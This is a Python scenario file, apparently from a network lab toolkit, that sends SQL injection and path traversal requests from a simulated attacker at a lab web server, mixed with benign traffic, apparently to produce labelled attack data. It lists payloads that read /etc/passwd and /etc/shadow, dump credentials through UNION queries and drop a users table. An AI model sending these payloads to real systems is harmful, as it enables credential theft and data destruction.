"""Web attacks: SQL injection and path traversal requests (plain, URL-encoded
and double-encoded, in query strings and form bodies) from the attacker's
address against the lab HTTP server, one connection per request as
scanners do, while a benign client fetches pages."""

from __future__ import annotations

import itertools
from urllib.parse import quote, quote_plus

from netgptd.lab.scenario import LabContext, scenario
from netgptd.lab.scenarios._attack_targets import (ATTACKER, CLIENT, VICTIM, Request, fetch,
                                                   serve_logged_http, stop_servers)
from netgptd.lab.scenarios._servers import well_known_port
from netgptd.lab.scenarios.http1 import PAGES, _Pages

SQL_INJECTIONS = [
    "' OR 1=1--",
    "' OR '1'='1",
    "admin'--",
    "1' UNION SELECT username, password FROM users--",
    "1 UNION ALL SELECT NULL, NULL, @@version--",
    "1' AND SLEEP(5)--",
    "1'; DROP TABLE users;--",
    "1' ORDER BY 10--",
]
TRAVERSALS = [
    "../../etc/passwd",
    "../../../../../../etc/passwd",
    "../../../../etc/shadow",
    "..\\..\\..\\windows\\win.ini",
    "....//....//....//etc/passwd",
    "../../../../proc/self/environ",
    "/etc/passwd",
    "../../../../etc/hosts%00.jpg",
]
REQUEST_RATE = 40  # attack requests per second
BENIGN_EVERY = 10  # the benign client fetches the pages once per this many attack requests


def attack_requests() -> list[Request]:
    """40 requests: each injection as a plain and an encoded query string and
    in a login form; each traversal as a plain file name in a query and
    URL-encoded (every other one twice) in a path."""
    requests = []
    for sql in SQL_INJECTIONS:
        requests.append(Request("GET", "/item?id=" + sql.replace(" ", "+")))
        requests.append(Request("GET", "/search?q=" + quote_plus(sql)))
        requests.append(Request("POST", "/login", f"user={quote_plus(sql)}&password=x".encode()))
    for i, path in enumerate(TRAVERSALS):
        requests.append(Request("GET", "/download?file=" + path.replace("\\", "%5c")))
        encoded = quote(path, safe="")
        requests.append(Request("GET", "/static/" + (quote(encoded, safe="") if i % 2 else encoded)))
    return requests


class _App(_Pages):
    """The lab pages, and a form that takes any POST."""

    def do_POST(self) -> None:  # noqa: N802 (the stdlib's name)
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.do_GET()


@scenario("web-attacks", "attack", "SQL injection and path traversal requests against the lab HTTP server")
def web_attacks(ctx: LabContext) -> None:
    victim_ip, client_ip, attacker_ip = ctx.host(VICTIM), ctx.host(CLIENT), ctx.host(ATTACKER)
    port = well_known_port(ctx, victim_ip, 80)
    server = serve_logged_http(victim_ip, port, _App)
    pages = [Request("GET", path) for path in PAGES]
    try:
        ctx.wait_listening(victim_ip, port)
        for sent, request in enumerate(itertools.cycle(attack_requests()), start=1):
            if not ctx.running():
                break
            fetch(ctx, attacker_ip, (victim_ip, port), [request], "webattack")
            if sent % BENIGN_EVERY == 1:
                fetch(ctx, client_ip, (victim_ip, port), pages)
            ctx.pace(sent, REQUEST_RATE)
    finally:
        stop_servers([server])
